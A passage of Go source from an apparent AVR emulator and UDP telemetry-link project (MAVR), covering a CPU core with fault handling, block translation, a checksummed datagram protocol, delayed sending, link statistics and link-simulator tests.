	if c.pageGen == nil || n == 0 {
		return
	}
	lo := uint32(0)
	if start >= 2 {
		lo = (start - 2) / SPMPageSize
	}
	hi := (start + n - 1) / SPMPageSize
	if hi >= flashPages {
		hi = flashPages - 1
	}
	for p := lo; p <= hi; p++ {
		c.pageGen[p]++
	}
}

// bumpAllPageGens invalidates every cached block.
func (c *CPU) bumpAllPageGens() {
	for i := range c.pageGen {
		c.pageGen[i]++
	}
}

// execBlock runs one translated block. The caller has already
// performed the interpreter's per-instruction checks for the first
// instruction and verified that the block's worst-case cycle cost fits
// the remaining budget.
func (c *CPU) execBlock(b *block) {
	c.Cycles += b.body
	if b.fns != nil {
		for _, fn := range b.fns {
			fn(c)
		}
		return
	}
	steps := b.steps
	for i := range steps {
		s := &steps[i]
		if s.check {
			// The previous step was hook-capable: replicate the
			// interpreter's pre-instruction tests at this boundary. All
			// three exits rewind the batched cycles to this instruction
			// boundary and leave PC there, exactly where the
			// interpreter would stand.
			if c.fault != nil {
				c.Cycles -= s.fixup
				c.PC = s.pc
				return
			}
			if c.intSuppress {
				if c.pendingInts != 0 {
					// An interrupt arrived while the SEI delay is armed:
					// bail WITHOUT consuming the delay so the outer loop
					// consumes it, interprets this one instruction, and
					// then dispatches — the interpreter's exact order.
					c.Cycles -= s.fixup
					c.PC = s.pc
					c.blkStats.Bails++
					return
				}
				c.intSuppress = false
			} else if c.pendingInts != 0 {
				// An interrupt arrived mid-block: let the outer loop
				// dispatch it before this instruction.
				c.Cycles -= s.fixup
				c.PC = s.pc
				c.blkStats.Bails++
				return
			}
		}
		s.fn(c)
	}
}
