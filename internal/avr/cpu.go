package avr

import (
	"errors"
	"fmt"
)

// FaultKind classifies the ways execution can go wrong. A fault on the
// application processor is what the MAVR master processor's timing
// analysis ultimately observes as a failed ROP attack.
type FaultKind int

const (
	// FaultInvalidOpcode is raised when the PC lands on an encoding that
	// is not a valid AVR instruction — the typical end of a ROP chain
	// built against the wrong (randomized) layout.
	FaultInvalidOpcode FaultKind = iota + 1
	// FaultPCOutOfRange is raised when the PC leaves the flash.
	FaultPCOutOfRange
	// FaultStackOverflow is raised when the stack pointer descends into
	// the I/O or register file region.
	FaultStackOverflow
	// FaultBreak is raised by the BREAK instruction.
	FaultBreak
	// FaultCycleBudget is raised when Run exhausts its cycle budget.
	FaultCycleBudget
)

func (k FaultKind) String() string {
	switch k {
	case FaultInvalidOpcode:
		return "invalid opcode"
	case FaultPCOutOfRange:
		return "PC out of range"
	case FaultStackOverflow:
		return "stack overflow"
	case FaultBreak:
		return "break"
	case FaultCycleBudget:
		return "cycle budget exhausted"
	}
	return "unknown fault"
}

// Fault describes an execution fault.
type Fault struct {
	Kind   FaultKind
	PC     uint32 // word address at which the fault occurred
	Opcode uint16
	Cycle  uint64
}

func (f *Fault) Error() string {
	return fmt.Sprintf("avr fault at pc=0x%05X (byte 0x%05X), cycle %d: %s (opcode 0x%04X)",
		f.PC, f.PC*2, f.Cycle, f.Kind, f.Opcode)
}

// ErrSleeping is returned by Step when the CPU executed SLEEP and no
// interrupt source is pending.
var ErrSleeping = errors.New("avr: cpu sleeping")

// IOReadFunc intercepts a read of one data-space address.
type IOReadFunc func(cur byte) byte

// IOWriteFunc intercepts a write to one data-space address.
type IOWriteFunc func(v byte)

// CPU is a simulated ATmega2560 core.
type CPU struct {
	// Flash is the byte-addressed program memory (len FlashSize). It is
	// execute/LPM-only from the program's point of view; stores cannot
	// reach it (Harvard architecture).
	Flash []byte
	// Data is the linear data space: registers, I/O, extended I/O, SRAM.
	Data []byte
	// EEPROM is the persistent configuration memory (unused by the core
	// but part of the board model).
	EEPROM []byte

	// PC is the program counter, a word address.
	PC uint32
	// Cycles counts executed clock cycles at 16 MHz.
	Cycles uint64

	// Sleeping is set by SLEEP and cleared by interrupts/reset.
	Sleeping bool

	// OnStep, when set, observes every instruction before it executes
	// (used by tracing tools; nil in normal operation). Setting it also
	// disables the block translation engine so every step is observed.
	OnStep func(pc uint32, in Instr)

	// ForceInterpreter disables the block translation engine (block.go)
	// so Run dispatches every instruction through the interpreter. New
	// CPUs inherit it from the MAVR_AVR_INTERP=1 environment escape
	// hatch; conformance tests set it directly.
	ForceInterpreter bool

	fault       *Fault
	readHook    []IOReadFunc  // indexed by data-space address
	writeHk     []IOWriteFunc // indexed by data-space address
	pendingInts uint64
	intSuppress bool
	spmBuf      [SPMPageSize]byte
	spmBufInit  bool

	// Predecoded instruction cache (see cache.go). decoded[pc] is valid
	// iff bit pc of decValid is set; both are allocated on first fetch.
	decoded  []Instr
	decValid []uint64

	// Block translation engine state (see block.go). blocks[pc] caches
	// the translation entered at pc; blockHeat gates translation to hot
	// entries; pageGen holds per-flash-page generation counters that
	// invalidate stale translations. All allocated on first use.
	blocks    []*block
	blockHeat []uint8
	pageGen   []uint32
	blkStats  BlockStats
}

// New returns a CPU with zeroed memories and SP initialized to the top
// of SRAM, as avr-libc startup code would do.
func New() *CPU {
	c := &CPU{
		Flash:            make([]byte, FlashSize),
		Data:             make([]byte, DataSpaceSize),
		EEPROM:           make([]byte, EEPROMSize),
		ForceInterpreter: forceInterpEnv,
	}
	c.installEEPROM()
	c.SetSP(uint16(DataSpaceSize - 1))
	return c
}

// LoadFlash copies image into program memory starting at byte address 0.
func (c *CPU) LoadFlash(image []byte) error {
	if len(image) > len(c.Flash) {
		return fmt.Errorf("avr: image of %d bytes exceeds %d-byte flash", len(image), len(c.Flash))
	}
	for i := range c.Flash {
		c.Flash[i] = 0xFF // erased flash reads as all ones
	}
	copy(c.Flash, image)
	c.InvalidateAllFlash()
	return nil
}

// Reset returns the core to its power-on state without touching flash.
func (c *CPU) Reset() {
	for i := range c.Data {
		c.Data[i] = 0
	}
	c.PC = 0
	c.Cycles = 0
	c.Sleeping = false
	c.fault = nil
	c.pendingInts = 0
	c.intSuppress = false
	c.SetSP(uint16(DataSpaceSize - 1))
}

// Fault returns the sticky fault, or nil while execution is healthy.
func (c *CPU) Fault() *Fault { return c.fault }

// Halted reports whether a fault has stopped the core.
func (c *CPU) Halted() bool { return c.fault != nil }

// Reg returns register r (0..31).
func (c *CPU) Reg(r int) byte { return c.Data[r] }

// SetReg sets register r (0..31).
func (c *CPU) SetReg(r int, v byte) { c.Data[r] = v }

// RegPair returns the 16-bit little-endian pair at registers lo,lo+1.
func (c *CPU) RegPair(lo int) uint16 {
	return uint16(c.Data[lo]) | uint16(c.Data[lo+1])<<8
}

// SetRegPair writes the 16-bit pair at registers lo,lo+1.
func (c *CPU) SetRegPair(lo int, v uint16) {
	c.Data[lo] = byte(v)
	c.Data[lo+1] = byte(v >> 8)
}

// SP returns the stack pointer.
func (c *CPU) SP() uint16 {
	return uint16(c.Data[AddrSPL]) | uint16(c.Data[AddrSPH])<<8
}

// SetSP writes the stack pointer.
func (c *CPU) SetSP(v uint16) {
	c.Data[AddrSPL] = byte(v)
	c.Data[AddrSPH] = byte(v >> 8)
}

// SREG returns the status register.
func (c *CPU) SREG() byte { return c.Data[AddrSREG] }

// SetSREG writes the status register.
func (c *CPU) SetSREG(v byte) { c.Data[AddrSREG] = v }

// Flag returns status flag bit f.
func (c *CPU) Flag(f int) bool { return c.Data[AddrSREG]&(1<<f) != 0 }

// SetFlag sets or clears status flag bit f.
func (c *CPU) SetFlag(f int, on bool) {
	if on {
		c.Data[AddrSREG] |= 1 << f
	} else {
		c.Data[AddrSREG] &^= 1 << f
	}
}

// HookRead installs fn as the read interceptor for data-space address
// addr (use IOBase+ioAddr for I/O registers). The function receives the
// current backing value and returns the value the program observes.
func (c *CPU) HookRead(addr uint16, fn IOReadFunc) {
	if c.readHook == nil {
		c.readHook = make([]IOReadFunc, DataSpaceSize)
	}
	c.readHook[addr] = fn
}

// HookWrite installs fn as the write observer for data-space address addr.
// The backing store is updated first, then fn is called with the value.
func (c *CPU) HookWrite(addr uint16, fn IOWriteFunc) {
	if c.writeHk == nil {
		c.writeHk = make([]IOWriteFunc, DataSpaceSize)
	}
	c.writeHk[addr] = fn
}

// ReadData reads one byte of data space, honoring read hooks.
func (c *CPU) ReadData(addr uint16) byte {
	if int(addr) >= len(c.Data) {
		return 0xFF // unimplemented external memory space
	}
	v := c.Data[addr]
	if c.readHook != nil {
		if fn := c.readHook[addr]; fn != nil {
			return fn(v)
		}
	}
	return v
}

// WriteData writes one byte of data space, honoring write hooks.
func (c *CPU) WriteData(addr uint16, v byte) {
	if int(addr) >= len(c.Data) {
		return
	}
	if addr == AddrSREG {
		c.noteSREGWrite(c.Data[addr], v)
	}
	c.Data[addr] = v
	if c.writeHk != nil {
		if fn := c.writeHk[addr]; fn != nil {
			fn(v)
		}
	}
}

// PushByte pushes one byte (post-decrement, AVR convention).
func (c *CPU) PushByte(v byte) {
	sp := c.SP()
	c.WriteData(sp, v)
	c.SetSP(sp - 1)
	if sp-1 < SRAMBase {
		c.raise(FaultStackOverflow, 0)
	}
}

// PopByte pops one byte (pre-increment).
func (c *CPU) PopByte() byte {
	sp := c.SP() + 1
	c.SetSP(sp)
	return c.ReadData(sp)
}

// PushPC pushes the 17-bit return address ret (a word address) as three
// bytes, low byte first, so that ascending memory holds [ext, hi, lo] —
// the big-endian layout visible in the paper's Fig. 6 stack dumps.
func (c *CPU) PushPC(ret uint32) {
	c.PushByte(byte(ret))
	c.PushByte(byte(ret >> 8))
	c.PushByte(byte(ret >> 16))
}

// PopPC pops a 3-byte return address.
func (c *CPU) PopPC() uint32 {
	ext := uint32(c.PopByte())
	hi := uint32(c.PopByte())
	lo := uint32(c.PopByte())
	return ext<<16 | hi<<8 | lo
}

func (c *CPU) raise(kind FaultKind, opcode uint16) {
	if c.fault == nil {
		c.fault = &Fault{Kind: kind, PC: c.PC, Opcode: opcode, Cycle: c.Cycles}
	}
}

// Step executes one instruction. It returns the CPU fault if the core is
// (or becomes) halted, ErrSleeping if the core is in SLEEP, and nil
// otherwise.
func (c *CPU) Step() error {
	if c.fault != nil {
		return c.fault
	}
	if c.intSuppress {
		// SEI/RETI one-instruction delay: execute exactly one more
		// instruction before recognizing pending interrupts.
		c.intSuppress = false
	} else if c.dispatchInterrupt() {
		return nil
	}
	if c.Sleeping {
		c.Cycles++
		return ErrSleeping
	}
	if c.PC >= FlashWords {
		c.raise(FaultPCOutOfRange, 0)
		return c.fault
	}
	in := c.fetch(c.PC)
	if c.OnStep != nil {
		c.OnStep(c.PC, in)
	}
	c.exec(in)
	if c.fault != nil {
		return c.fault
	}
	return nil
}

// Run executes until a fault occurs or maxCycles elapse. It returns the
// number of cycles consumed and the fault (nil if the budget expired or
// the CPU went to sleep).
//
// A sleeping core with no pending interrupt consumes the remaining
// budget in one step: nothing inside a Run call can wake it (interrupt
// sources are raised between calls), so the sleep window fast-forwards
// and board-level timing stays meaningful.
func (c *CPU) Run(maxCycles uint64) (uint64, *Fault) {
	start := c.Cycles
	end := start + maxCycles
	if end < start { // budget overflow: run to the end of time
		end = ^uint64(0)
	}
	// Tight dispatch loop: the fault check, interrupt window and sleep
	// state are re-tested per instruction but all stay in registers; the
	// instruction itself comes predecoded from the cache. Hot
	// straight-line code leaves this loop entirely: translated basic
	// blocks (block.go) execute whole runs of instructions per
	// iteration, and the interpreter below remains the reference path
	// for cold, traced, or interrupt-window code.
	useBlocks := c.blocksEnabled()
	for c.Cycles < end {
		if c.fault != nil {
			return c.Cycles - start, c.fault
		}
		if c.intSuppress {
			// SEI/RETI one-instruction delay: execute exactly one more
			// instruction before recognizing pending interrupts.
			c.intSuppress = false
		} else if c.pendingInts != 0 && c.dispatchInterrupt() {
			continue
		}
		if c.Sleeping {
			c.Cycles = end
			return c.Cycles - start, nil
		}
		if c.PC >= FlashWords {
			c.raise(FaultPCOutOfRange, 0)
			return c.Cycles - start, c.fault
		}
		if useBlocks && c.pendingInts == 0 && !c.intSuppress {
			if b := c.blockFor(c.PC); b != nil && c.Cycles+b.cycles <= end {
				// The block's worst-case cost fits the budget, so it
				// stops at the same instruction boundary the
				// interpreter would.
				c.blkStats.Execs++
				c.execBlock(b)
				if c.fault != nil {
					return c.Cycles - start, c.fault
				}
				continue
			}
		}
		in := c.fetch(c.PC)
		if c.OnStep != nil {
			c.OnStep(c.PC, in)
		}
		c.exec(in)
		c.blkStats.InterpSteps++
		if c.fault != nil {
			return c.Cycles - start, c.fault
		}
	}
	return c.Cycles - start, nil
}

// RunUntil executes until pred returns true, a fault occurs, or maxCycles
// elapse. It reports whether pred was satisfied.
//
// Like Run, a sleeping core fast-forwards the remaining budget: nothing
// inside a RunUntil call can wake it (interrupt sources are raised
// between calls), so pred is evaluated once more at the budget horizon
// instead of stalling one cycle at a time.
func (c *CPU) RunUntil(maxCycles uint64, pred func(*CPU) bool) (bool, *Fault) {
	start := c.Cycles
	end := start + maxCycles
	if end < start { // budget overflow: run to the end of time
		end = ^uint64(0)
	}
	for c.Cycles < end {
		if pred(c) {
			return true, nil
		}
		if err := c.Step(); err != nil {
			if err == ErrSleeping {
				c.Cycles = end
				return pred(c), nil
			}
			return false, c.fault
		}
	}
	return false, nil
}
