package netlink

import (
	"encoding/binary"
	"errors"
	"fmt"
	"time"
)

// Datagram header layout (big endian):
//
//	offset 0  magic   "MV"
//	offset 2  version 1 byte
//	offset 3  type    1 byte (hello / data / bye)
//	offset 4  sysid   1 byte (vehicle the datagram concerns)
//	offset 5  seq     4 bytes (per-direction link sequence number)
//	offset 9  simtime 8 bytes (vehicle sim clock, ns; 0 on the uplink)
//	offset 17 check   4 bytes (FNV-1a over header[0:17] + payload)
//	offset 21 payload (telemetry records downlink, raw frame bytes uplink)
//
// The checksum (new in version 2) is what makes mid-stream corruption
// a *link* fault instead of an ambiguous anomaly: a flipped bit fails
// verification at the receiver and the datagram is dropped whole, so
// corruption degrades into record-aligned loss (sequence gaps) and can
// never reach the ground station's monitor as garbage that would mimic
// a compromised vehicle.
const (
	magic0 = 'M'
	magic1 = 'V'

	// Version is the wire protocol version.
	Version = 2

	// HeaderSize is the fixed datagram header length.
	HeaderSize = 21

	// checkOffset is where the checksum lives inside the header.
	checkOffset = 17

	// MaxDatagram caps the datagrams the fleet server emits; the
	// receive path accepts anything up to the UDP maximum (an attacking
	// station's oversize frames do not respect MTU niceties).
	MaxDatagram = 1400
)

// PacketType discriminates datagrams.
type PacketType byte

const (
	// PacketHello opens or refreshes a session (also the keepalive).
	PacketHello PacketType = 1
	// PacketData carries telemetry records or uplink frame bytes.
	PacketData PacketType = 2
	// PacketBye closes a session gracefully.
	PacketBye PacketType = 3
)

// Header is a decoded datagram header.
type Header struct {
	Type    PacketType
	SysID   byte
	Seq     uint32
	SimTime time.Duration
}

// Header decoding errors.
var (
	ErrShortDatagram = errors.New("netlink: datagram shorter than header")
	ErrBadProtoMagic = errors.New("netlink: bad datagram magic")
	ErrBadVersion    = errors.New("netlink: unsupported protocol version")
	ErrChecksum      = errors.New("netlink: datagram checksum mismatch")
)

// AppendHeader appends the encoded header to dst with a zero checksum;
// Encode fills the checksum in once the payload is attached.
func AppendHeader(dst []byte, h Header) []byte {
	var buf [HeaderSize]byte
	buf[0], buf[1], buf[2] = magic0, magic1, Version
	buf[3] = byte(h.Type)
	buf[4] = h.SysID
	binary.BigEndian.PutUint32(buf[5:9], h.Seq)
	binary.BigEndian.PutUint64(buf[9:17], uint64(h.SimTime))
	return append(dst, buf[:]...)
}

// checksum is FNV-1a 32 over the pre-checksum header bytes and the
// payload — cheap, order-sensitive, and deterministic.
func checksum(header, payload []byte) uint32 {
	h := uint32(0x811C9DC5)
	for _, b := range header[:checkOffset] {
		h = (h ^ uint32(b)) * 0x01000193
	}
	for _, b := range payload {
		h = (h ^ uint32(b)) * 0x01000193
	}
	return h
}

// Encode builds a full datagram from a header and payload, including
// the integrity checksum.
func Encode(h Header, payload []byte) []byte {
	out := AppendHeader(make([]byte, 0, HeaderSize+len(payload)), h)
	out = append(out, payload...)
	binary.BigEndian.PutUint32(out[checkOffset:HeaderSize], checksum(out, payload))
	return out
}

// Decode splits a received datagram into header and payload, verifying
// the checksum: a corrupted datagram is rejected whole (ErrChecksum),
// turning wire damage into clean datagram loss. The payload aliases
// pkt; copy it before the receive buffer is reused.
func Decode(pkt []byte) (Header, []byte, error) {
	if len(pkt) < HeaderSize {
		return Header{}, nil, ErrShortDatagram
	}
	if pkt[0] != magic0 || pkt[1] != magic1 {
		return Header{}, nil, ErrBadProtoMagic
	}
	if pkt[2] != Version {
		return Header{}, nil, fmt.Errorf("%w: %d", ErrBadVersion, pkt[2])
	}
	payload := pkt[HeaderSize:]
	if binary.BigEndian.Uint32(pkt[checkOffset:HeaderSize]) != checksum(pkt, payload) {
		return Header{}, nil, ErrChecksum
	}
	h := Header{
		Type:    PacketType(pkt[3]),
		SysID:   pkt[4],
		Seq:     binary.BigEndian.Uint32(pkt[5:9]),
		SimTime: time.Duration(binary.BigEndian.Uint64(pkt[9:17])),
	}
	return h, payload, nil
}
