// Datagram pacing runs against the real clock by design: injected
// latency is realized as wall-clock sleeps on the socket goroutine.
//mavr:wallclock

package netlink

import (
	"container/heap"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// maxSenderQueue bounds the delayed-datagram queue. A pathological
// latency schedule (or a stalled socket) must degrade into datagram
// loss — UDP's native failure mode — rather than unbounded memory
// growth; the oldest queued datagram is shed first, matching what a
// saturated radio would do.
const maxSenderQueue = 4096

// sender serializes datagram writes onto one UDP socket and realizes
// the link simulator's injected latency: delayed datagrams sit in a
// time-ordered queue drained by a single goroutine, so two datagrams
// whose injected delays invert genuinely arrive reordered on the wire.
// Zero-delay datagrams bypass the queue.
type sender struct {
	conn *net.UDPConn

	mu     sync.Mutex
	queue  delayHeap
	wake   chan struct{}
	done   chan struct{}
	closed bool
	wg     sync.WaitGroup

	// dropped counts datagrams shed by the queue bound (drop-oldest).
	dropped atomic.Uint64
}

type delayed struct {
	due  time.Time
	addr *net.UDPAddr
	pkt  []byte
}

func newSender(conn *net.UDPConn) *sender {
	s := &sender{
		conn: conn,
		wake: make(chan struct{}, 1),
		done: make(chan struct{}),
	}
	s.wg.Add(1)
	go s.loop()
	return s
}

// send transmits pkt to addr after delay. The packet buffer must not
// be reused by the caller. Errors are dropped: UDP gives no delivery
// guarantee anyway and the fleet must not die with a session.
func (s *sender) send(addr *net.UDPAddr, pkt []byte, delay time.Duration) {
	if delay <= 0 {
		_, _ = s.conn.WriteToUDP(pkt, addr)
		return
	}
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	for len(s.queue) >= maxSenderQueue {
		// Shed the earliest-due (oldest) datagram: stale telemetry is
		// the least valuable thing in a congested queue.
		heap.Pop(&s.queue)
		s.dropped.Add(1)
	}
	heap.Push(&s.queue, delayed{due: time.Now().Add(delay), addr: addr, pkt: pkt})
	s.mu.Unlock()
	select {
	case s.wake <- struct{}{}:
	default:
	}
}

func (s *sender) loop() {
	defer s.wg.Done()
	timer := time.NewTimer(time.Hour)
	defer timer.Stop()
	for {
		s.mu.Lock()
		var wait time.Duration = time.Hour
		now := time.Now()
		for len(s.queue) > 0 {
			next := s.queue[0]
			if d := next.due.Sub(now); d > 0 {
				wait = d
				break
			}
			heap.Pop(&s.queue)
			s.mu.Unlock()
			_, _ = s.conn.WriteToUDP(next.pkt, next.addr)
			s.mu.Lock()
			now = time.Now()
		}
		s.mu.Unlock()

		if !timer.Stop() {
			select {
			case <-timer.C:
			default:
			}
		}
		timer.Reset(wait)
		select {
		case <-s.done:
			return
		case <-s.wake:
		case <-timer.C:
		}
	}
}

// close stops the drain goroutine; queued datagrams are discarded.
func (s *sender) close() {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	s.closed = true
	s.mu.Unlock()
	close(s.done)
	s.wg.Wait()
}

type delayHeap []delayed

func (h delayHeap) Len() int           { return len(h) }
func (h delayHeap) Less(i, j int) bool { return h[i].due.Before(h[j].due) }
func (h delayHeap) Swap(i, j int)      { h[i], h[j] = h[j], h[i] }
func (h *delayHeap) Push(x any)        { *h = append(*h, x.(delayed)) }
func (h *delayHeap) Pop() any {
	old := *h
	n := len(old)
	it := old[n-1]
	*h = old[:n-1]
	return it
}
