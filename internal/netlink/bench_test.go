package netlink

import (
	"net"
	"testing"
	"time"
)

// BenchmarkNetlinkRoundTrip measures one encode → UDP send → receive →
// decode cycle through the loopback interface: the per-datagram floor
// of the transport itself, without board emulation on top.
func BenchmarkNetlinkRoundTrip(b *testing.B) {
	echoConn, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		b.Fatal(err)
	}
	defer echoConn.Close()
	go func() {
		buf := make([]byte, 1<<16)
		for {
			n, addr, err := echoConn.ReadFromUDP(buf)
			if err != nil {
				return
			}
			echoConn.WriteToUDP(buf[:n], addr)
		}
	}()

	conn, err := net.DialUDP("udp", nil, echoConn.LocalAddr().(*net.UDPAddr))
	if err != nil {
		b.Fatal(err)
	}
	defer conn.Close()

	payload := make([]byte, 256) // ~a tick's worth of telemetry records
	buf := make([]byte, 1<<16)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		pkt := Encode(Header{Type: PacketData, SysID: 1, Seq: uint32(i), SimTime: time.Second}, payload)
		if _, err := conn.Write(pkt); err != nil {
			b.Fatal(err)
		}
		n, err := conn.Read(buf)
		if err != nil {
			b.Fatal(err)
		}
		if _, _, err := Decode(buf[:n]); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(HeaderSize + len(payload)))
}
