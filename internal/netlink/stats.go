package netlink

import (
	"fmt"
	"sort"
	"strings"
	"sync/atomic"
)

// LinkStats are the per-link counters, safe for concurrent update.
// One LinkStats instance exists per session (fleet side) and per
// client.
type LinkStats struct {
	DatagramsIn  atomic.Uint64
	DatagramsOut atomic.Uint64
	BytesIn      atomic.Uint64
	BytesOut     atomic.Uint64

	// RecordsOut counts telemetry records packed onto the downlink.
	RecordsOut atomic.Uint64
	// UplinkFrames counts checksum-valid MAVLink frames observed on
	// the uplink (the fleet forwards raw bytes regardless; this is
	// observability, not gating).
	UplinkFrames atomic.Uint64
	// CRCRejects counts uplink frames that failed checksum validation
	// — oversize attack frames land here, since their checksum covers
	// more payload than the wire length byte admits.
	CRCRejects atomic.Uint64

	// SeqGaps counts link-sequence discontinuities (datagrams missing
	// from the peer's numbering — real or simulated loss).
	SeqGaps atomic.Uint64
	// Reordered counts datagrams arriving with an older sequence
	// number than already seen.
	Reordered atomic.Uint64

	// SimDropped/SimDuplicated/SimDelayed count link-simulator
	// interventions on this link's transmissions.
	SimDropped    atomic.Uint64
	SimDuplicated atomic.Uint64
	SimDelayed    atomic.Uint64

	// CorruptDatagrams counts received datagrams rejected by the
	// transport checksum — wire damage surfacing as whole-datagram loss.
	CorruptDatagrams atomic.Uint64
	// QueueDropped counts datagrams shed by bounded queues (drop-oldest
	// backpressure on the sender's delay queue / the client's uplink
	// queue).
	QueueDropped atomic.Uint64
	// Rehellos counts session re-establishments: hellos carrying a new
	// epoch after the peer detected a dead link.
	Rehellos atomic.Uint64
}

// LinkStatsSnapshot is a plain-value copy of LinkStats.
type LinkStatsSnapshot struct {
	DatagramsIn, DatagramsOut uint64
	BytesIn, BytesOut         uint64
	RecordsOut                uint64
	UplinkFrames, CRCRejects  uint64
	SeqGaps, Reordered        uint64
	SimDropped                uint64
	SimDuplicated             uint64
	SimDelayed                uint64
	CorruptDatagrams          uint64
	QueueDropped              uint64
	Rehellos                  uint64
}

// Snapshot copies the counters.
func (s *LinkStats) Snapshot() LinkStatsSnapshot {
	return LinkStatsSnapshot{
		DatagramsIn:   s.DatagramsIn.Load(),
		DatagramsOut:  s.DatagramsOut.Load(),
		BytesIn:       s.BytesIn.Load(),
		BytesOut:      s.BytesOut.Load(),
		RecordsOut:    s.RecordsOut.Load(),
		UplinkFrames:  s.UplinkFrames.Load(),
		CRCRejects:    s.CRCRejects.Load(),
		SeqGaps:       s.SeqGaps.Load(),
		Reordered:     s.Reordered.Load(),
		SimDropped:    s.SimDropped.Load(),
		SimDuplicated: s.SimDuplicated.Load(),
		SimDelayed:    s.SimDelayed.Load(),

		CorruptDatagrams: s.CorruptDatagrams.Load(),
		QueueDropped:     s.QueueDropped.Load(),
		Rehellos:         s.Rehellos.Load(),
	}
}

// metricsLines renders the snapshot as "prefix.key value" text lines.
func (s LinkStatsSnapshot) metricsLines(prefix string) []string {
	kv := []struct {
		k string
		v uint64
	}{
		{"datagrams_in", s.DatagramsIn}, {"datagrams_out", s.DatagramsOut},
		{"bytes_in", s.BytesIn}, {"bytes_out", s.BytesOut},
		{"records_out", s.RecordsOut},
		{"uplink_frames", s.UplinkFrames}, {"crc_rejects", s.CRCRejects},
		{"seq_gaps", s.SeqGaps}, {"reordered", s.Reordered},
		{"sim_dropped", s.SimDropped}, {"sim_duplicated", s.SimDuplicated},
		{"sim_delayed", s.SimDelayed},
		{"corrupt_datagrams", s.CorruptDatagrams},
		{"queue_dropped", s.QueueDropped}, {"rehellos", s.Rehellos},
	}
	lines := make([]string, 0, len(kv))
	for _, e := range kv {
		lines = append(lines, fmt.Sprintf("%s.%s %d", prefix, e.k, e.v))
	}
	return lines
}

// formatMetrics renders a stable, sorted metrics block from raw lines.
func formatMetrics(lines []string) string {
	sort.Strings(lines)
	return strings.Join(lines, "\n") + "\n"
}
