package netlink

import (
	"reflect"
	"sync"
	"testing"
	"time"
)

// The acceptance property: for a fixed seed the impairment schedule is
// identical across runs and worker counts. Fate is a pure function of
// (seed, link, seq), so we verify (a) sequential and parallel
// regeneration agree exactly, and (b) the schedule is insensitive to
// evaluation order.
func TestLinkSimDeterministicAcrossWorkers(t *testing.T) {
	cfg := SimConfig{
		Seed:     42,
		DropRate: 0.1,
		DupRate:  0.05,
		Latency:  2 * time.Millisecond,
		Jitter:   8 * time.Millisecond,
	}
	const n = 10000
	link := downLink(7)

	sequential := make([]Fate, n)
	for i := 0; i < n; i++ {
		sequential[i] = cfg.Fate(link, uint32(i))
	}

	for _, workers := range []int{1, 3, 16} {
		parallel := make([]Fate, n)
		var wg sync.WaitGroup
		chunk := (n + workers - 1) / workers
		for w := 0; w < workers; w++ {
			lo, hi := w*chunk, (w+1)*chunk
			if hi > n {
				hi = n
			}
			wg.Add(1)
			go func(lo, hi int) {
				defer wg.Done()
				for i := hi - 1; i >= lo; i-- { // reversed order on purpose
					parallel[i] = cfg.Fate(link, uint32(i))
				}
			}(lo, hi)
		}
		wg.Wait()
		if !reflect.DeepEqual(sequential, parallel) {
			t.Fatalf("schedule differs with %d workers", workers)
		}
	}
}

func TestLinkSimRatesAndSpread(t *testing.T) {
	cfg := SimConfig{Seed: 7, DropRate: 0.2, DupRate: 0.1, Jitter: 10 * time.Millisecond}
	const n = 20000
	drops, dups, delayed := 0, 0, 0
	for i := 0; i < n; i++ {
		f := cfg.Fate("v1/down", uint32(i))
		if f.Drop {
			drops++
			continue
		}
		if f.Copies == 2 {
			dups++
		}
		if f.Delay > 0 {
			delayed++
		}
		if f.Delay >= cfg.Jitter {
			t.Fatalf("delay %v out of range", f.Delay)
		}
	}
	if got := float64(drops) / n; got < 0.17 || got > 0.23 {
		t.Errorf("drop rate %.3f, want ~0.2", got)
	}
	if got := float64(dups) / (float64(n) * 0.8); got < 0.07 || got > 0.13 {
		t.Errorf("dup rate %.3f, want ~0.1", got)
	}
	if delayed == 0 {
		t.Error("jitter produced no delays")
	}
}

func TestLinkSimLinksAreIndependent(t *testing.T) {
	cfg := SimConfig{Seed: 3, DropRate: 0.5}
	same := 0
	const n = 1000
	for i := 0; i < n; i++ {
		a := cfg.Fate(downLink(1), uint32(i))
		b := cfg.Fate(downLink(2), uint32(i))
		if a.Drop == b.Drop {
			same++
		}
	}
	// Independent 50% coins agree about half the time; identical
	// schedules would agree always.
	if same > n*3/4 {
		t.Errorf("links correlated: %d/%d identical fates", same, n)
	}

	// Different seeds change the schedule.
	diff := false
	for i := 0; i < 100; i++ {
		if cfg.Fate(downLink(1), uint32(i)).Drop != (SimConfig{Seed: 4, DropRate: 0.5}).Fate(downLink(1), uint32(i)).Drop {
			diff = true
			break
		}
	}
	if !diff {
		t.Error("seed does not influence the schedule")
	}
}

func TestInactiveSimPassesEverything(t *testing.T) {
	var cfg SimConfig
	if cfg.Active() {
		t.Fatal("zero config reported active")
	}
	for i := 0; i < 100; i++ {
		f := cfg.Fate("any", uint32(i))
		if f.Drop || f.Copies != 1 || f.Delay != 0 {
			t.Fatalf("perfect link altered datagram %d: %+v", i, f)
		}
	}
}
