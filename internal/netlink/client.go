// Client-side read deadlines and arrival-rate estimation are
// wall-clock operations against a real UDP socket.
//mavr:wallclock

package netlink

import (
	"errors"
	"net"
	"sync"
	"time"

	"mavr/internal/gcs"
	"mavr/internal/mavlink"
)

// maxUplinkQueue bounds the client's outgoing data queue: a wedged
// socket sheds the oldest frames instead of growing without bound.
const maxUplinkQueue = 256

// ClientConfig tunes a ground-station client.
type ClientConfig struct {
	// SysID is the vehicle to watch (1-based fleet system id).
	SysID byte
	// Keepalive is the hello interval maintaining the session (wall
	// clock; default 500ms).
	Keepalive time.Duration
	// LinkIdle is the wall-clock arrival gap after which the client
	// declares the link dead: the silence is charged to the link (not
	// the vehicle) and the session is re-helloed under a new epoch when
	// traffic resumes. Default 250ms; negative disables outage
	// detection. Deliberately keyed on wall-clock arrivals, not the
	// carried sim clocks — a recovering vehicle's sim clock jumps while
	// beacons keep arriving, and that gap belongs to the vehicle.
	LinkIdle time.Duration
	// Rate estimates vehicle sim time during total downlink loss, in
	// simulated seconds per wall second. 0 (the default) disables the
	// estimate: silence is then measured purely from the sim clocks
	// carried by received datagrams (time beacons keep arriving from a
	// live fleet even when a vehicle's application has crashed).
	Rate float64
